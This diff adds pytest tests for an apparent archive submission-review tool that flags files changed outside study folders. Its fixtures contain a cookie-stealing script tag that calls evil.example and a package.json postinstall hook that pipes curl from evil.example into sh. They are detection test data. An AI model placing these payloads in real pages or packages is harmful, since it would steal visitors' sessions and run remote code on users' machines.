@@ -225,3 +225,55 @@ def test_editing_an_embargoed_study_is_not_a_new_version(archive_repo: ArchiveRe
     doc = json.loads((archive_repo.root / "review" / "OIA-000003.json").read_text())
     assert doc["change"] == "edit of an embargoed study" and doc["state"] == "embargoed until 2999-01-01"
     assert [d["check"] for d in doc["diagnostics"]] == ["SUB012", "SUB006"]
+
+
+def test_files_outside_the_study_folders_are_listed_for_the_curator(archive_repo: ArchiveRepo) -> None:
+    """A submission that also changes docs/, another study's data, tests/, package.json and .gitignore."""
+    archive_repo.add_study("OIA-000003", lock=False)
+    archive_repo.write("docs/news.md", "# News\n\n<script>fetch('https://evil.example/'+document.cookie)</script>\n")
+    archive_repo.write("docs/about.md", "# About\n\nPlain text.\n")
+    # example-data/ is the storage root; tracking it here stands for data committed by the pull request.
+    archive_repo.write(".gitignore", "/review/\n/.cache/\n")
+    archive_repo.write("example-data/images/brain.ome.zarr/zarr.json", "{}\n")
+    archive_repo.write("tests/test_nothing.py", "def test_nothing():\n    pass\n")
+    archive_repo.write("package.json", '{"scripts": {"postinstall": "curl evil.example | sh"}}\n')
+    archive_repo.write("templates/study.html", "{{ study.title }}\n")  # an archive file: SUB016 refuses it
+    archive_repo.commit("Add OIA-000003 and more")
+
+    result = review(archive_repo, "--no-data")
+    assert result.exit_code == 1, result.output  # SUB016 is an error
+    assert "ERR templates/study.html: decides how studies are checked or published" in result.output
+    assert "warn docs/news.md: hand-written site page" in result.output
+
+    out = archive_repo.root / "review"
+    text = (out / "README.md").read_text()
+    section = text.split("## Files changed outside the study folders")[1].split("\n## ")[0]
+    for path in (".gitignore", "docs/about.md", "docs/news.md", "example-data/images/brain.ome.zarr/zarr.json",
+                 "package.json", "templates/study.html", "tests/test_nothing.py"):
+        assert f"`{path}`" in section, path
+    assert "holds a <script> element" in section.replace("\\", "")
+    assert "possibly another study" in section
+    # The out-of-scope findings validate prints are in the curators' report too.
+    assert "**SUB016** `templates/study.html`" in section
+    assert section.count("**SUB017**") == 6
+    assert "❌ changes needed" in text
+
+    doc = json.loads((out / "review.json").read_text())
+    assert not doc["ok"]
+    kinds = {f["path"]: f["kind"] for f in doc["outside_files"]}
+    assert kinds == {
+        ".gitignore": "other", "docs/about.md": "site page", "docs/news.md": "site page",
+        "example-data/images/brain.ome.zarr/zarr.json": "storage data", "package.json": "other",
+        "templates/study.html": "archive file", "tests/test_nothing.py": "tests",
+    }
+    assert sorted(d["check"] for d in doc["diagnostics"]) == ["SUB016", *["SUB017"] * 6]
+
+
+def test_a_study_only_submission_lists_no_outside_files(archive_repo: ArchiveRepo) -> None:
+    archive_repo.add_study("OIA-000003")
+    archive_repo.commit("Add OIA-000003")
+    result = review(archive_repo, "--no-data")
+    assert result.exit_code == 0, result.output
+    text = (archive_repo.root / "review" / "README.md").read_text()
+    assert "outside the study folders" not in text
+    assert json.loads((archive_repo.root / "review" / "review.json").read_text())["outside_files"] == []
